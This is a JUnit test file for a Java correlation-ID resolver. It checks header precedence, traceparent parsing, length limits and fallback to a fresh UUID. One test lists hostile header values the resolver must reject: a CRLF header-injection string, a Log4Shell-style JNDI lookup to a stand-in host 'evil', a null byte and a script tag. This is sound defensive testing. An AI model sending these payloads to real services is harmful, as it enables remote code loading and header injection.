package io.faultline.correlation;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.UUID;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class CorrelationIdsTest {

    private static final String TRACE = "4bf92f3577b34da6a3ce929d0e0e4736";

    @Test
    void correlationIdHeaderWinsOverTheOthers() {
        assertEquals("abc-1", CorrelationIds.resolve("abc-1", "req-2", "00-" + TRACE + "-00f067aa0ba902b7-01"));
    }

    @Test
    void requestIdIsUsedWhenThereIsNoCorrelationId() {
        assertEquals("req-2", CorrelationIds.resolve(null, "req-2", "00-" + TRACE + "-00f067aa0ba902b7-01"));
    }

    @Test
    void traceparentGivesItsTraceId() {
        assertEquals(TRACE, CorrelationIds.resolve(null, null, "00-" + TRACE + "-00f067aa0ba902b7-01"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
        "00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
        "01-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
        "00-4bf92f3577b34da6a3ce929d0e0e473-00f067aa0ba902b7-01",
        "garbage"})
    void invalidTraceparentGivesANewId(String traceparent) {
        String id = CorrelationIds.resolve(null, null, traceparent);
        assertEquals(id, UUID.fromString(id).toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\r\nX-Injected: 1", "${jndi:ldap://evil/x}", "id with spaces", "naïve", "a\u0000b", "<script>"})
    void hostileValuesAreReplaced(String hostile) {
        String id = CorrelationIds.resolve(hostile, "fine-id", null);
        assertNotEquals(hostile, id);
        assertEquals(id, UUID.fromString(id).toString());
    }

    @Test
    void overlongValuesAreReplaced() {
        String longest = "a".repeat(128);
        assertEquals(longest, CorrelationIds.resolve(longest, null, null));
        assertNotEquals("a".repeat(129), CorrelationIds.resolve("a".repeat(129), null, null));
        assertNotEquals("a".repeat(10_240), CorrelationIds.resolve("a".repeat(10_240), null, null));
    }

    @Test
    void everyAllowedCharacterIsKept() {
        assertTrue(CorrelationIds.isValid("AZaz09._:-"));
    }

    @Test
    void noHeadersGiveANewUuid() {
        String id = CorrelationIds.resolve(null, "", null);
        assertEquals(id, UUID.fromString(id).toString());
    }
}
